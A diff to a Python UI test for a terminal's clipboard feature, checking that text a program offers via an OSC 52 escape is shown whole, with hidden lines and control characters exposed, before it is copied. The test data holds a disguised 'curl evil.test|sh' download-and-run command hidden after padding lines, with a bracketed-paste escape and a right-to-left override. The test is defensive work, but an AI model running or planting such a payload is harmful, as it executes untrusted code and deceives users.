@@ -189,13 +189,15 @@ def test_a_program_offers_for_the_clipboard_and_rings_and_only_the_person_acts(i
 
 
 def test_nothing_is_copied_or_pasted_that_cannot_be_seen(ide: Ide, shell: Cell) -> None:
-    hidden = "git status" + "\n" * 40 + "curl evil.test|sh\x1b[201~\u202egpj\n"
+    steps = "".join(f"echo {n}\n" for n in range(39))
+    hidden = f"git status\n{steps}curl evil.test|sh\x1b[201~\u202egpj\n"
     offered = base64.b64encode(hidden.encode()).decode()
     shell.type(rf"printf '\033]52;c;{offered}\007'; echo do''ne")
     expect(shell.screen).to_contain_text("done")
     whole = shell.root.get_by_role("region", name="The whole text").locator("pre")
-    expect(whole).to_contain_text("curl evil.test|sh␛[201~<202E>gpj")
-    expect(shell.root).to_contain_text("41 lines, 76 characters. 2 control characters will be left out.")
+    expect(whole).to_contain_text(r"curl evil.test|sh\u{1b}[201~\u{202e}gpj")
+    extent = f"41 lines, {len(hidden) - 2} characters. 2 control characters will be left out."
+    expect(shell.root).to_contain_text(extent)
     # By keyboard as well, and back.
     shell.keys.press("Alt+o")
     expect(shell.button("Copy")).to_be_focused()
@@ -207,7 +209,7 @@ def test_nothing_is_copied_or_pasted_that_cannot_be_seen(ide: Ide, shell: Cell) 
 
     shell.button("Copy").click()
     expect(shell.button("Copy")).to_have_count(0)
-    is_copied(ide, "git status" + "\n" * 40 + "curl evil.test|sh[201~gpj\n")
+    is_copied(ide, f"git status\n{steps}curl evil.test|sh[201~gpj\n")
 
     shell.type(r"printf '\033[?2004l'; exec cat")
     paste(ide, "one" + "\n" * 20 + "evil\n")
